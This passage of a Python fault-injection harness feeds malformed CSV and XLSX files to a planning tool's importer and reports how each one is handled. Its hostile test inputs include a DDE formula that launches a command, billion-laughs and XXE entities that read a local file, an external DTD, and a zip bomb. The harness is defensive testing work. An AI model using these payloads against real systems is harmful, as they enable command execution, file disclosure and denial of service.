        "blank lines only": b"\r\n\r\n  \r\n",
        "header only": (lines[0] + "\r\n").encode(),
        "a column twice in the header": csv_bytes([[*header, header[0]]] + [[*r, r[0]] for r in rows[1:]]),
        "a required column missing": csv_bytes([r[1:] for r in rows]),
        "header in capitals with spaces": csv_bytes([[h.upper().replace("_", " ") + " " for h in header]] + rows[1:]),
        "an unknown extra column": csv_bytes([[*header, "probe_extra"]] + [[*r, "x"] for r in rows[1:]]),
        "semicolons for commas": text.replace(",", ";").encode("utf-8-sig"),
        "tabs for commas": csv_text(rows).replace(",", "\t").encode("utf-8-sig"),
        "a row with ten extra cells": csv_bytes(rows[:2] + [[*rows[1], *["extra"] * 10]] + rows[2:]),
        "a row with one cell": csv_bytes(rows[:2] + [[rows[1][0]]] + rows[2:]),
        "an unclosed quote in row 2": ("\r\n".join([lines[0], '"' + lines[1], *lines[2:]])).encode("utf-8-sig"),
        "CR line endings": text.replace("\r\n", "\r").encode("utf-8-sig"),
        "LF line endings": text.replace("\r\n", "\n").encode("utf-8-sig"),
        "blank lines before the header": ("\r\n\r\n" + text).encode("utf-8-sig"),
        "10,000 columns": csv_bytes([[*header, *[f"c{i}" for i in range(10000)]]]
                                    + [[*r, *[""] * 10000] for r in rows[1:]]),
        "every row twice": csv_bytes([header, *rows[1:], *rows[1:]]),
    }
    for name, data in structural.items():
        add("structure", name, data)
    # encodings: a text cell holding non-ASCII text, the file written in another encoding
    for encoding, wrong in (("utf-8", False), ("utf-8-sig", False), ("mac_roman", True), ("cp437", True),
                            ("cp850", True), ("utf-16", True), ("utf-16-be", True), ("utf-32", True)):
        add("encodings", f"{text_col} '{ENCODED_TEXT}' in {encoding}", csv_with(text_col, ENCODED_TEXT, 0, encoding),
            text=ENCODED_TEXT, wrong_encoding=wrong)
    add("encodings", f"{text_col} '{CP1252_TEXT}' in cp1252", csv_with(text_col, CP1252_TEXT, 0, "cp1252"),
        text=CP1252_TEXT)
    for encoding, bom in (("utf-8", "no"), ("utf-8-sig", "a")):
        # the first row holds the non-ASCII text; the last row's text cell the one byte that is not UTF-8
        marked = with_cell(probe, kind, text_col, ENCODED_TEXT, 0)
        if kind == "services":
            marked.append(["Probe STRAY service", "", "", "no"])
        else:
            marked[-1][header.index(text_col)] = "Probe STRAY text"
        utf8 = csv_bytes(marked, encoding)
        for stray in (b"\xff", b"\x92", b"\xa3", b"\x81", b"\xc3", b"\xc0\xaf"):
            add("encodings", f"UTF-8 ({bom} byte-order mark) with one stray byte {stray.hex()} in the last row",
                utf8.replace(b"STRAY", stray), text=ENCODED_TEXT, wrong_encoding=True)
    # control characters in a text cell (in the last row, past the first 4 KB where the file is larger)
    for value in CONTROLS:
        add("control characters", f"{text_col} holds {value!r}", csv_with(text_col, f"Probe {value} text", -1))
    add("control characters", f"NUL in the first row's {text_col}", csv_with(text_col, "Probe \x00 text", 0))
    # huge cells
    for label, value in (("301 characters", "A" * 301), ("10,000 characters", "A" * 10_000),
                         ("a 2,000-character word", "x" * 2000), ("100,000 characters of words", "word " * 20_000),
                         ("131,073 characters", "y" * 131_073), ("5 MB", "z" * 5_000_000)):
        add("huge cells", f"{TEXT_COLUMNS[kind][-1]} of {label}", csv_with(TEXT_COLUMNS[kind][-1], value, "longest"),
            briefing=True)
    if len(TEXT_COLUMNS[kind]) > 1:
        add("huge cells", f"{text_col} of a 2,000-character word", csv_with(text_col, "w" * 2000, "longest"),
            briefing=True)
    add("huge cells", "a 10 MB line of short cells", csv_bytes([header, *rows[1:], ["x"] * 2_000_000]))
    # dates and years
    for column in DATE_COLUMNS[kind]:
        for value in BAD_DATES:
            add("dates", f"{column} {value}", csv_with(column, value), briefing=True)
    if kind in ("budget", "savings"):
        for value in BAD_YEARS:
            add("dates", f"year {value}", csv_with("year", value), briefing=True)
    if kind in ("staff", "budget"):
        for value in BAD_AS_OF:
            add("dates", f"--as-of {value}", base, extra=("--as-of", value), briefing=True)
    # values and references
    values = {
        "services": [("retained", "maybe"), ("name", "")],
        "milestones": [("service", "No such service"), ("depends_on", "NOPE-99"), ("stage", "nonsense"),
                       ("rag", "purple"), ("depends_on", rows[1][0])],
        "staff": [("service", "No such service"), ("employment", "nonsense"), ("fte", "-1"), ("annual_cost", "£abc"),
                  ("fte", "1e309")],
        "budget": [("service", "No such service"), ("budget", "1e309"), ("forecast", "12,34,5"),
                   ("transfers", "perhaps"), ("budget", "99999999999999999999")],
        "savings": [("service", "No such service"), ("rag", "purple"), ("target", "-"),
                    ("forecast", "99999999999999999999"), ("year", "")],
    }[kind]
    for column, value in values:
        add("values and refs", f"{column} '{value}'", csv_with(column, value))
    if kind == "milestones":
        refs = [r[0] for r in rows[1:]]
        dep = header.index("depends_on")

        def cycle(members: list[str]) -> bytes:
            changed = _rows(probe, kind)
            for i, ref in enumerate(members):
                row = next(r for r in changed[1:] if r[0] == ref)
                row[dep] = ";".join(filter(None, [row[dep], members[(i + 1) % len(members)]]))
            return csv_bytes(changed)

        add("cycles", "a milestone depends on itself", cycle(refs[:1]))
        add("cycles", "two milestones depend on each other", cycle(refs[:2]))
        add("cycles", "a cycle of three", cycle(refs[3:6]))
        add("cycles", f"a cycle through all {len(refs)} milestones", cycle(refs))
    # duplicates
    key = {"services": ["name"], "milestones": ["ref"], "staff": ["ref"], "budget": ["year", "cost_centre"],
           "savings": ["ref"]}[kind]
    twin = list(rows[1])
    twin[header.index(text_col)] = (twin[header.index(text_col)] + " (twin)")[:60] if kind != "services" else twin[0]
    add("duplicates", "a row twice", csv_bytes([*rows, rows[1]]))
    add("duplicates", f"{'+'.join(key)} twice with different details", csv_bytes([*rows, twin]))
    cased = list(rows[1])
    cased[header.index(key[-1])] = cased[header.index(key[-1])].lower()
    add("duplicates", f"{key[-1]} twice, once in lower case", csv_bytes([*rows, cased]))
    spaced = list(rows[1])
    spaced[header.index(key[-1])] = " " + spaced[header.index(key[-1])] + " "
    add("duplicates", f"{key[-1]} twice, once with spaces around it", csv_bytes([*rows, spaced]))
    # formula text
    for column in TEXT_COLUMNS[kind]:
        for formula in FORMULAS:
            add("formulas", f"{column} {formula!r}", csv_with(column, formula), payload=formula)
    # workbooks
    good = xlsx(kind, rows)
    add("xlsx", "a well-formed workbook", good)
    first_text = (2, header.index(text_col))
    add("xlsx", "entity expansion (billion laughs) in the sheet",
        xlsx(kind, rows, doctype=_laughs(), raw_cells={first_text: cell_xml(2, first_text[1], "") .replace(
            "</t>", "&lol9;</t>")}))
    add("xlsx", "entity expansion (billion laughs) in shared strings",
        xlsx(kind, rows, shared=_laughs().replace("worksheet", "sst") + '<sst xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>',
             raw_cells={first_text: f'<c r="{col_name(first_text[1])}2" t="s"><v>0</v></c>'}))
    add("xlsx", "an external entity reading a local file (XXE)",
        xlsx(kind, rows, doctype=f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{canary.as_uri()}">]>',
             raw_cells={first_text: cell_xml(2, first_text[1], "").replace("</t>", "&xxe;</t>")}))
    add("xlsx", "an external parameter entity (XXE)",
        xlsx(kind, rows, doctype=f'<!DOCTYPE worksheet [<!ENTITY % p SYSTEM "{canary.as_uri()}"> %p;]>'))
    add("xlsx", "an external DTD", xlsx(kind, rows, doctype='<!DOCTYPE worksheet SYSTEM "http://probe.invalid/x.dtd">'))
    for fraction in (0.1, 0.5, 0.9, 0.99):
        add("xlsx", f"cut short at {fraction:.0%} of its bytes", good[: int(len(good) * fraction)])
    sheet = sheet_xml(rows)
    for fraction in (0.5, 0.95):
        add("xlsx", f"its sheet cut short at {fraction:.0%}", zip_bytes(xlsx_members(kind, sheet[: int(len(sheet) *
                                                                                               fraction)])))
    add("xlsx", "an unclosed tag in the sheet", zip_bytes(xlsx_members(kind, sheet.replace("</row>", "", 3))))
    compressed = bytearray(good)
    info = next(i for i in zipfile.ZipFile(io.BytesIO(good)).infolist() if i.filename.endswith("sheet1.xml"))
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(3):
        spot = start + rng.randrange(max(info.compress_size, 1))
        compressed[spot] ^= 0xFF
    add("xlsx", "corrupt compressed data in its sheet", bytes(compressed))
    add("xlsx", "its central directory cut off", good[: good.rfind(b"PK\x01\x02")])
    raw_bad = {
        "a shared-string index out of range": '<c r="A2" t="s"><v>999</v></c>',
        "a shared-string index that is not a number": '<c r="A2" t="s"><v>abc</v></c>',
        "a number cell holding letters": '<c r="A2"><v>abc</v></c>',
        "a date serial far past 9999": '<c r="A2" s="1"><v>99999999</v></c>',
        "a negative date serial": '<c r="A2" s="1"><v>-5</v></c>',
        "an ISO date cell holding nonsense": '<c r="A2" t="d"><v>not a date</v></c>',
        "an error cell": '<c r="A2" t="e"><v>#REF!</v></c>',
    }
    for label, raw in raw_bad.items():
        add("xlsx", label, zip_bytes(xlsx_members(kind, sheet_xml(rows, raw_cells={(2, 0): raw}),
                                                  shared=EMPTY_SHARED if "shared" in label else None)))
    formula = "=cmd|' /C calc'!A0"
    add("xlsx", "formula text in an inline-string cell", xlsx(kind, with_cell(probe, kind, text_col, formula)),
        payload=formula)
    col = col_name(header.index(text_col))
    add("xlsx", "a formula cell with a cached text value",
        xlsx(kind, rows, raw_cells={(2, header.index(text_col)):
                                    f'<c r="{col}2" t="str"><f>cmd|\' /C calc\'!A0</f><v>{xml_escape(formula)}</v></c>'}),
        payload=formula)
    add("xlsx", "a cell in column XFD", xlsx(kind, rows, raw_cells={(2, 16383): cell_xml(2, 16383, "far")}))
    add("xlsx", "a cell in row 1,048,576", xlsx(kind, rows, raw_cells={(1_048_576, 0): cell_xml(1_048_576, 0, "far")}))
    add("xlsx", "a dimension claiming the whole sheet", xlsx(kind, rows, dimension="A1:XFD1048576"))
    add("xlsx", "no sheets", xlsx(kind, rows, sheet_names=[]))
    add("xlsx", "its only sheet named for another kind", xlsx(kind, rows, sheet_names=["risks"]))
    add("xlsx", "a zip with no workbook in it", zip_bytes({"readme.txt": "not a workbook"}))
    megabytes = 5 if probe.quick else 200
    add("xlsx", f"a zip bomb: its sheet inflates to {megabytes} MB of rows", None,
        make=lambda path, k=kind, r=rows, mb=megabytes: write_bomb(path, k, r, mb))
    for case in cases:
        if case.category == "xlsx":
            case.ext = "xlsx"
    # truncated and damaged bytes, seeded
    cuts = {3}
    while len(cuts) < seeded:
        cuts.add(rng.randrange(4, len(base)))
    for cut in sorted(cuts) if seeded else ():
        add("truncated", f"cut at byte {cut:,} of {len(base):,}", base[:cut])
    for _ in range(seeded):
        spot, value = rng.randrange(len(base)), rng.randrange(256)
        damaged = bytearray(base)
        damaged[spot] = value if value != damaged[spot] else (value + 1) % 256
        add("damaged bytes", f"byte {spot:,} set to {damaged[spot]:#04x}", bytes(damaged))
    return cases


MALFORMED_FILES = 1240  # at least; the truncations and damaged bytes make up what the designed cases leave


def all_malformed(probe: Probe, canary: Path) -> list[Case]:
    designed = sum(len(malformed_cases(probe, kind, canary, 0)) for kind in KINDS)
    seeded = max(16, -(-(MALFORMED_FILES - designed) // (2 * len(KINDS))))
    cases = [case for kind in KINDS for case in malformed_cases(probe, kind, canary, seeded)]
    if probe.quick:  # two cases of each category (of two kinds, taking turns), and one smaller zip bomb
        chosen = []
        categories = list(dict.fromkeys(c.category for c in cases))
        for number, category in enumerate(categories):
            among = [c for c in cases if c.category == category and "zip bomb" not in c.name]
            for kind in (KINDS[number % len(KINDS)], KINDS[(number + 2) % len(KINDS)]):
                case = next((c for c in among if c.kind == kind and c not in chosen), None) or \
                    next((c for c in among if c not in chosen), None)
                if case is not None:
                    chosen.append(case)
        return [next(c for c in cases if c.kind == "milestones" and "zip bomb" in c.name)] + chosen
    return cases


def family_malformed(probe: Probe) -> tuple[list[Outcome], list[str]]:
    canary = probe.work / "canary.txt"
    canary.write_text(CANARY)
    cases = all_malformed(probe, canary)
    bombs = [c for c in cases if c.make is not None]
    cases = bombs + [c for c in cases if c.make is None]  # the slow ones first, beside the rest
    cases = limited(probe, cases)

    def one(case: Case) -> Outcome:
        folder = probe.fresh("malformed", case.kind)
        name = f"{case.kind}.{case.ext}"
        if case.make is not None:
            case.make(folder / name)
        else:
            (folder / name).write_bytes(case.data)
        argv = import_argv(case.kind, name, *case.extra) if not case.extra else ["import", PLAN, case.kind, name,
                                                                                 *case.extra]
        proc = probe.run(argv, folder, limits={resource.RLIMIT_AS: MEMORY_LIMIT})
        flags = []
        if proc.rc == 0 and not proc.timed_out and verdict(proc.err) != "internal":
            if (folder / PLAN).read_bytes() == probe.base_bytes:  # nothing written: the demo plan, known whole
                problem, why, files = "", "", probe.base_export
            else:
                problem, why, files = whole(probe, folder, briefing=case.briefing)
            cls, line = (problem, why) if problem else (OK, proc.first_line)
            exported = files.get(case.kind, b"")
            cells = [cell for row in export_cells(exported)[1:] for cell in row]
            text = exported.decode("utf-8-sig", "replace")
            if case.wrong_encoding and case.text and case.text not in text:
                flags.append("mojibake")
            if CONTROL_RE.search(text):
                flags.append("control characters")
            if case.payload:
                body = case.payload.strip("\t\r=+-@")[:12]
                if any(body in cell and cell.startswith(UNSAFE_START) for cell in cells):
                    flags.append("formula exported unsafely")
            if CANARY in text:
                flags.append("external entity read a local file")
            if case.category == "truncated":
                flags.append("truncated file accepted")
            if case.category == "dates":
                flags.append("bad date accepted")
        else:
            cls, line = refusal(proc, [name])
            if (folder / PLAN).read_bytes() != probe.base_bytes:
                after = data_dump(folder / PLAN)
                if after != probe.base_dump:
                    cls, line = UNCLEAR, f"exit {proc.rc}, but the plan's data changed: {line}"
        probe.done(folder)
        return outcome("malformed", f"{case.kind}: {case.category}: {case.name}", proc, cls, line, flags=flags,
                       kind=case.kind, category=case.category)

    results = probe.map(one, cases)
    flags = Counter(flag for r in results for flag in r.flags)
    wrong = sum(1 for c in cases if c.wrong_encoding)
    formulas = [r for r, c in zip(results, cases) if c.payload]
    notes = [f"{len(results)} files: " + ", ".join(f"{sum(r.kind == k for r in results)} {k}" for k in KINDS),
             f"accepted mojibake: {flags['mojibake']} of {wrong} wrongly encoded files",
             f"accepted control characters (exported as they came): {flags['control characters']}",
             f"formula text accepted: {sum(r.cls == OK for r in formulas)} of {len(formulas)}; exported with its "
             f"leading = + - @ intact (unsafe): {flags['formula exported unsafely']}",
             f"truncated files accepted: {flags['truncated file accepted']} of "
             f"{sum(c.category == 'truncated' for c in cases)}; bad dates or years accepted: "
             f"{flags['bad date accepted']} of {sum(c.category == 'dates' for c in cases)}",
             f"external entities that read the canary file: {flags['external entity read a local file']}",
             f"slowest run: {max((r.seconds for r in results), default=0):.1f} s"]
    by_category = defaultdict(Counter)
    for r in results:
        by_category[r.category][r.cls] += 1
    notes.append("by category (" + ", ".join(CLASSES) + "):")
    notes += [f"  {category:<20} " + " ".join(f"{counts[cls]:>4}" for cls in CLASSES)
              for category, counts in by_category.items()]
    accepted = [r for r in results if r.cls == OK and r.category == "dates"]
    if accepted:
        notes.append("  bad dates accepted: " + "; ".join(r.case.split(": ", 2)[0] + " " + r.case.split(": ", 2)[2]
                                                        for r in accepted[:12]))
    return results, notes


# ---------------------------------------------------------------------------------------------
# Report


FAMILIES: dict[str, Callable[[Probe], tuple[list[Outcome], list[str]]]] = {
    "kills": family_kills,
    "pairs": family_pairs,
    "damaged": family_damaged,
    "migration": family_migration,
    "readonly": family_readonly,
    "malformed": family_malformed,
}


def log_leaks(probe: Probe) -> str:
    """Staff names and salaries from the demo's HR extract that reached a log file."""
    header, *rows = probe.rows["staff"]
    names = {r[header.index("name")] for r in rows if r[header.index("name")]}
    salaries = {r[header.index("annual_cost")] for r in rows if len(r[header.index("annual_cost")]) > 5}
    text = ""
    for path in sorted(probe.logs.glob("*.log*")):
        text += path.read_text(encoding="utf-8", errors="replace")
    found_names = sorted(n for n in names if n in text)
    found_salaries = sorted(s for s in salaries if s in text or s.replace(".", "") + "," in text)
    size = sum(p.stat().st_size for p in probe.logs.glob("*.log*"))
    return (f"log files ({size / 1e6:.1f} MB): {len(found_names)} of the demo's {len(names)} staff names and "
            f"{len(found_salaries)} of {len(salaries)} salaries found" + (f", e.g. {found_names[0]}" if found_names
                                                                           else ""))


def report(probe: Probe, results: dict[str, tuple[list[Outcome], list[str], float]], elapsed: float) -> str:
    lines = [f"Fault probe: {probe.version}, {platform.python_implementation()} {platform.python_version()}, "
             f"{os.cpu_count()} CPUs, {probe.jobs} runs at once, seed {probe.seed}, "
             f"{'quick' if probe.quick else 'full'} run" + (f", --limit {probe.limit}" if probe.limit else "")
             + (", runs forked from a preloaded Python (--fork)" if probe.forks else ", each run a fresh python -m "
                "trustplanner"),
             "",
             f"{'family':<11}{'runs':>6}{'ok':>6}{'refused cleanly':>17}{'internal error':>16}{'unclear':>9}"
             f"{'too slow':>10}{'time':>8}"]
    totals = Counter()
    for family, (outcomes, _, seconds) in results.items():
        counts = Counter(o.cls for o in outcomes)
        totals.update(counts)
        totals["runs"] += len(outcomes)
        lines.append(f"{family:<11}{len(outcomes):>6}{counts[OK]:>6}{counts[REFUSED]:>17}{counts[INTERNAL]:>16}"
                     f"{counts[UNCLEAR]:>9}{counts[SLOW]:>10}{seconds:>7.0f}s")
    lines.append(f"{'total':<11}{totals['runs']:>6}{totals[OK]:>6}{totals[REFUSED]:>17}{totals[INTERNAL]:>16}"
                 f"{totals[UNCLEAR]:>9}{totals[SLOW]:>10}{elapsed:>7.0f}s")
    for family, (outcomes, notes, _) in results.items():
        lines += ["", f"{family}:"] + [f"  {note}" for note in notes]
        for cls in BAD:
            bad = [o for o in outcomes if o.cls == cls]
            if bad:
                lines.append(f"  {cls} ({len(bad)}), first {min(3, len(bad))}:")
                for o in bad[:3]:
                    lines.append(f"    - {o.case}")
                    lines.append(f"      $ {o.command[:220]}" if o.command else "")
                    lines.append(f"      {o.line[:220]}")
        if family == "readonly":
            lines.append("  every run:")
            lines += [f"    - {o.case}: {o.cls}: {o.line[:160]}" for o in outcomes]
    lines += ["", log_leaks(probe)]
    return "\n".join(line for line in lines if line is not None)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Measure what faults and hostile input do to TrustPlanner, from "
                                                 "outside the code (see this script's docstring).")
    parser.add_argument("--family", action="append", choices=list(FAMILIES), metavar="NAME",
                        help="only this family (repeatable): " + ", ".join(FAMILIES))
    parser.add_argument("--quick", action="store_true", help="a smaller subset of every family (1-2 minutes)")
    parser.add_argument("--limit", type=int, metavar="N", help="only the first N runs of each family")
    parser.add_argument("--jobs", type=int, default=(os.cpu_count() or 1) + 1, metavar="N",
                        help="runs at once (default: CPUs + 1)")
    parser.add_argument("--seed", type=int, default=9, help="the seed of every random choice (default 9)")
    parser.add_argument("--fork", action="store_true",
                        help="start each run by forking a Python that has already imported the command line, "
                             "instead of a fresh `python -m trustplanner` (about three times faster; the same code "
                             "runs, only start-up and imports are shared)")
    parser.add_argument("--json", type=Path, metavar="FILE", help="write every run's outcome to FILE")
    parser.add_argument("--keep", type=Path, metavar="DIR", help="work in DIR (new or empty) and keep what is made")
    args = parser.parse_args(argv)
    if args.keep:
        args.keep.mkdir(parents=True, exist_ok=True)
        if any(args.keep.iterdir()):
            parser.error(f"{args.keep} is not empty")
        work = args.keep
    else:
        work = Path(tempfile.mkdtemp(prefix="fault-probe-"))
    probe = Probe(work, jobs=max(args.jobs, 1), quick=args.quick, limit=args.limit, seed=args.seed, fork=args.fork)
    probe.keep = bool(args.keep)
    started = time.monotonic()
    results = {}
    try:
        probe.set_up()
        for family in args.family or list(FAMILIES):
            began = time.monotonic()
            outcomes, notes = FAMILIES[family](probe)
            results[family] = (outcomes, notes, time.monotonic() - began)
            print(f"fault probe: {family} done, {len(outcomes)} runs in {time.monotonic() - began:.0f} s",
                  file=sys.stderr, flush=True)
        sys.stderr.flush()
        print(report(probe, results, time.monotonic() - started), flush=True)
        if args.json:
            args.json.write_text(json.dumps({family: [asdict(o) for o in outcomes]
                                             for family, (outcomes, _, _) in results.items()}, indent=1),
                                 encoding="utf-8")
    except SystemExit as exc:
        if isinstance(exc.code, str):
            print(exc.code, file=sys.stderr)
            return 1
        raise
    finally:
        probe.pool.shutdown(wait=True)
        if probe.forks is not None:
            probe.forks.close()
        if not args.keep:
            shutil.rmtree(work, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
